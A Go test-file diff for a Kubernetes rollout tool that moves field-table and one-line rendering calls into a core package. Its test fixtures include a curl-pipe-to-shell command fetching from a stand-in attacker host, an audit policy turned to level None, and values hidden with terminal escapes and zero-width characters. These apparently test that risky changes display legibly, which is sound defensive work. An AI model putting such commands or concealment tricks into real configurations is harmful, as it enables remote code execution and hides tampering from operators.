@@ -8,6 +8,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/rollout-guard/rollout-guard/rollout/api/v1alpha1"
+	"github.com/rollout-guard/rollout-guard/rollout/internal/core"
 )
 
 // TestWriteFieldTable: every value reads in full, a value of several lines
@@ -15,7 +16,7 @@ import (
 // marks of the rows around it aligned; an absent value reads <none>.
 func TestWriteFieldTable(t *testing.T) {
 	var out bytes.Buffer
-	require.NoError(t, writeFieldTable(&out, "  ", "LIVE", "PLANNED", []v1alpha1.PlanFieldChange{
+	require.NoError(t, core.WriteFieldTable(&out, "  ", "LIVE", "PLANNED", []v1alpha1.PlanFieldChange{
 		{Path: "kubeadmConfigSpec.files[/etc/kubernetes/audit.yaml].content", From: "apiVersion: audit.k8s.io/v1\nrules:\n  - level: Metadata\n", To: "apiVersion: audit.k8s.io/v1\nrules:\n  - level: None\n", RollsOut: true},
 		{Path: "kubeadmConfigSpec.preKubeadmCommands", To: `["curl -s http://attacker.invalid/x | sh"]`, RollsOut: true},
 		{Path: "metadata.labels.team", From: "a", To: "b\tc\x1b[8m"},
@@ -43,6 +44,6 @@ func TestOneLine(t *testing.T) {
 		{"cu\u200brl", `cu\u200brl`},
 		{"DevMachineTemplate/c1-md-0", "DevMachineTemplate/c1-md-0"},
 	} {
-		assert.Equal(t, tc.want, oneLine(tc.in), "%q", tc.in)
+		assert.Equal(t, tc.want, core.OneLine(tc.in), "%q", tc.in)
 	}
 }
